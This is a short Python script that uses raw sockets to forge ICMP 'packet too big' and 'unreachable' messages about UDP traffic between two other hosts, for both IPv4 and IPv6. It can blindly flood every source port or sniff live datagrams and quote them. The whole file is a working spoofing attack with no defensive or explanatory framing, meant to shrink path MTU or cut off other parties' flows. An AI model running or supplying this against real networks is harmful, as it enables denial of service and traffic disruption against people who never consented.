#!/usr/bin/env python3
"""icmp.py FROM TO PORT blind|seen SECONDS: forges ICMP about datagrams from one address to another: that they were too big, and
that nothing is there.

blind: about every port that FROM may have sent from, and without a quote. seen: quotes the datagrams that come to this
machine. Needs a raw socket.
"""
import ipaddress, socket, struct, sys, time

source, target, port, how, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], float(sys.argv[5])
a, b = ipaddress.ip_address(source), ipaddress.ip_address(target)
six = a.version == 6
raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) if six else \
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)

def checksum(data):
    total = sum(struct.unpack('>%dH' % (len(data) // 2), data + b'\0' * (len(data) % 2)))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff

def tell(packet):
    """tells lies about a packet, from its IP header on"""
    for kind, code, mtu in [(2, 0, 1280), (1, 3, 0)] if six else [(3, 4, 552), (3, 1, 0)]:
        message = struct.pack('>BBHI', kind, code, 0, mtu) + packet[:548] + b'\0' * (len(packet[:548]) % 2)
        if not six:  # for IPv6 the kernel computes it
            message = message[:2] + struct.pack('>H', checksum(message)) + message[4:]
        raw.sendto(message, (source, 0))

def header(sport, payload=b''):
    udp = struct.pack('>HHHH', sport, port, 1444, 0) + payload
    if six:
        return struct.pack('>IHBB', 6 << 28, 1444, 17, 64) + a.packed + b.packed + udp
    return struct.pack('>BBHHHBBH', 0x45, 0, 1464, 1, 0x4000, 64, 17, 0) + a.packed + b.packed + udp

told, until = 0, time.time() + seconds
if how == 'blind':
    while time.time() < until:
        for sport in range(1024, 65536):
            tell(header(sport))
            told += 1
else:
    sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x86dd if six else 0x0800))
    sniffer.settimeout(0.1)
    while time.time() < until:
        try:
            packet = sniffer.recv(65535)
        except TimeoutError:
            continue
        udp = packet[40:] if six else packet[20:]
        if packet[6 if six else 9] == 17 and udp[2:4] == struct.pack('>H', port) and len(udp) > 600:
            tell(packet)
            told += 1
print(told, 'messages')
